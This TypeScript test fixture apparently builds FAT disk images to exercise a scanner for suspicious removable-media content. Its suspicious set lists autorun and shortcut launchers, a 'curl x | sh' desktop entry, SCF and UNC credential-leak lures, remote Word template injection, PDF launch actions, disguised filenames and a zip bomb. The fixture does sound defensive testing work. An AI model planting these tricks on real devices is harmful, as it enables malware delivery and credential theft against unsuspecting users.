/** A FAT stick with a case of everything that the look-out knows on FAT, beside ordinary files. */

import { type FatEntry, fatTree } from './fat-tree.ts';
import { SECRET_SEVEN_ZIP } from './seven-zip.ts';
import {
  compoundFile,
  deflated,
  linuxProgram,
  pdfFile,
  shellLinkFile,
  text,
  windowsProgram,
  wordPackage,
} from './suspicious-files.ts';
import { fileEntry, zipFile } from './zip.ts';

const HIDDEN = 0x02;
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.alloc(600, 7)]);
/** 1 January 2107 in FAT's packing, the last year that it has. */
const FAR_FUTURE: [number, number] = [(127 << 9) | (1 << 5) | 1, 0];

export function ordinaryFiles(): FatEntry[] {
  return [
    {
      name: 'Pictures',
      children: Array.from({ length: 12 }, (_, i) => ({ name: `IMG_${1000 + i}.JPG`, content: JPEG })),
    },
    { name: 'Letter.txt', content: text('Dear Ada,\nall is well.\n') },
    { name: 'Report.pdf', content: pdfFile('') },
    { name: 'Minutes.docx', content: wordPackage([]) },
    { name: 'Year.zip', content: zipFile([fileEntry('a.txt', 'a')]) },
  ];
}

export function suspiciousFiles(): FatEntry[] {
  return [
    { name: 'autorun.inf', content: text('[autorun]\r\nlabel=Holiday\r\nopen=setup.exe /quiet\r\n') },
    { name: 'setup.exe', content: windowsProgram(), attributes: HIDDEN },
    { name: 'Documents', attributes: HIDDEN, children: [{ name: 'real.txt', content: text('real') }] },
    {
      name: 'Documents.lnk',
      content: shellLinkFile({
        target: 'C:\\Windows\\System32\\cmd.exe',
        parameters: '/c start setup.exe & start Documents',
      }),
    },
    { name: 'Holiday.lnk', content: shellLinkFile({ target: 'E:\\Pictures' }) },
    { name: 'Share.lnk', content: shellLinkFile({ target: '\\\\198.51.100.7\\share' }) },
    { name: 'Offer.url', content: text('[InternetShortcut]\r\nURL=https://example.com/offer\r\n') },
    { name: 'Search.url', content: text('[InternetShortcut]\r\nURL=search-ms:query=invoice&crumb=location:x\r\n') },
    { name: 'view.scf', content: text('[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\s\\i.ico\r\n') },
    {
      name: 'tool.desktop',
      content: text('[Desktop Entry]\nType=Application\nName=Photos\nExec=sh -c "curl x | sh"\n'),
    },
    { name: 'invoice.pdf.exe', content: windowsProgram() },
    { name: 'statement.doc          .scr', content: windowsProgram() },
    { name: 'invoice\u202efdp.exe', content: windowsProgram() },
    { name: '\u00a0', children: [{ name: 'loot.txt', content: text('x') }] },
    { name: 'pay\u200bment.txt', content: text('x') },
    { name: 'Pаypal.txt', content: text('cyrillic') },
    { name: 'Paypal.txt', content: text('latin') },
    { name: 'holiday.jpg', content: windowsProgram() },
    { name: 'song.mp3', content: linuxProgram() },
    { name: 'installer.exe', content: windowsProgram() },
    { name: 'cleanup.bat', content: text('@echo off\r\ndel x\r\n') },
    { name: 'drawing.svg', content: text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>') },
    { name: 'order.docx', content: wordPackage([fileEntry('word/vbaProject.bin', 'x')]) },
    { name: 'order.docm', content: wordPackage([fileEntry('word/vbaProject.bin', 'x')]) },
    {
      name: 'contract.docx',
      content: wordPackage([
        deflated(
          'word/_rels/settings.xml.rels',
          '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>',
        ),
      ]),
    },
    { name: 'old.doc', content: compoundFile(['WordDocument', 'Macros', 'VBA']) },
    { name: 'secret.docx', content: compoundFile(['EncryptionInfo', 'EncryptedPackage']) },
    { name: 'note.rtf', content: text('{\\rtf1 {\\object\\objocx{\\*\\objdata 0105}}}') },
    { name: 'form.pdf', content: pdfFile('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>') },
    { name: 'start.pdf', content: pdfFile('/OpenAction << /S /Launch /F (cmd.exe) >>') },
    { name: 'private.zip', content: zipFile([{ ...fileEntry('a.txt', 'xx'), flags: 1 }]) },
    { name: 'private.7z', content: SECRET_SEVEN_ZIP },
    { name: 'bomb.zip', content: zipFile([{ ...fileEntry('zeros', 'x'.repeat(100)), statedBytes: 4_000_000_000 }]) },
    { name: 'disk.iso', content: Buffer.concat([Buffer.alloc(32769), text('CD001'), Buffer.alloc(4096)]) },
    { name: 'future.txt', content: text('x'), modified: FAR_FUTURE },
    { name: 'first.bin', content: Buffer.alloc(3000, 1) },
    { name: 'second.bin', content: Buffer.alloc(3000, 2), sharedWith: 'first.bin' },
  ];
}

export function suspiciousStick(): Uint8Array {
  return fatTree('HOLIDAY', [...ordinaryFiles(), ...suspiciousFiles()]);
}

export function ordinaryStick(): Uint8Array {
  return fatTree('CAMERA', ordinaryFiles());
}
